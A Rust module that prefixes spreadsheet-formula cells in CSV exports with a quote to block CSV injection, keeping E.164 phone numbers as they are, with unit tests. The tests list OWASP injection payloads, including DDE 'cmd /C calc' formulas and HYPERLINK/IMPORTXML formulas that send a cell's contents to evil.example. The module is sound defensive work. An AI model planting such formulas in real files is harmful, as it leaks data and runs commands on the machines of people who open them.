//! CSV cells safe to open in a spreadsheet: every CSV engaged writes (the leads
//! export, an import's refused rows) passes each cell through [`neutralize`], so that a
//! value a spreadsheet would run as a formula (OWASP's "CSV injection": a cell starting
//! with `=`, `+`, `-`, `@`, tab or carriage return) is read as text, behind a leading
//! `'`. A phone in E.164 (`+` and digits only) in the phone column is left as it is.

use std::borrow::Cow;

/// What the cell holds, for the one exception.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub enum Column {
    /// The phone column: a phone in E.164 stays as it is.
    Phone,
    Other,
}

/// `value` as a spreadsheet reads it as text: prefixed with `'` when it starts like a
/// formula, unless it is an E.164 phone in the phone column. Quoting is the CSV
/// writer's business.
pub fn neutralize(value: &str, column: Column) -> Cow<'_, str> {
    if !value.starts_with(['=', '+', '-', '@', '\t', '\r']) {
        return Cow::Borrowed(value);
    }
    if column == Column::Phone && is_e164(value) {
        return Cow::Borrowed(value);
    }
    Cow::Owned(format!("'{value}"))
}

/// `+` then 1 to 15 digits, the first not 0.
fn is_e164(value: &str) -> bool {
    let Some(digits) = value.strip_prefix('+') else {
        return false;
    };
    (1..=15).contains(&digits.len())
        && digits.bytes().all(|b| b.is_ascii_digit())
        && !digits.starts_with('0')
}

#[cfg(test)]
mod tests {
    use super::*;

    /// The payloads of OWASP's CSV Injection page, and their relatives.
    const OWASP: &[&str] = &[
        "=cmd|' /C calc'!A0",
        "+cmd|' /C calc'!A0",
        "-cmd|' /C calc'!A0",
        "@cmd|' /C calc'!A0",
        "=1+2+3",
        "+1+2",
        "-2+3+cmd|' /C calc'!A0",
        "@SUM(1+9)*cmd|' /C calc'!A0",
        "=HYPERLINK(\"http://evil.example/?leak=\"&A1,\"Error: click\")",
        "=DDE(\"cmd\";\"/C calc\";\"!A0\")A0",
        "=IMPORTXML(CONCAT(\"http://evil.example/?v=\",A1),\"//a\")",
        "\t=1+2",
        "\r=1+2",
        "=1+2\";=1+2",
        "+15125550100 =1+2",
        "+1 512 555 0100",
    ];

    #[test]
    fn every_owasp_payload_is_read_as_text() {
        for payload in OWASP {
            for column in [Column::Other, Column::Phone] {
                let out = neutralize(payload, column);
                assert_eq!(out, format!("'{payload}"), "{payload:?} in {column:?}");
            }
        }
    }

    #[test]
    fn an_e164_phone_in_the_phone_column_stays_as_it_is() {
        assert_eq!(neutralize("+15125550100", Column::Phone), "+15125550100");
        assert_eq!(neutralize("+15125550100", Column::Other), "'+15125550100");
        assert_eq!(neutralize("+", Column::Phone), "'+");
        assert_eq!(neutralize("+0123", Column::Phone), "'+0123");
        assert_eq!(
            neutralize("+1234567890123456", Column::Phone),
            "'+1234567890123456"
        );
    }

    #[test]
    fn plain_values_are_untouched() {
        for plain in [
            "Ana",
            "",
            "5125550100",
            " =1",
            "a=b",
            "'=1",
            "ana@example.com",
        ] {
            assert!(matches!(neutralize(plain, Column::Other), Cow::Borrowed(_)));
            assert_eq!(neutralize(plain, Column::Other), plain);
        }
    }
}
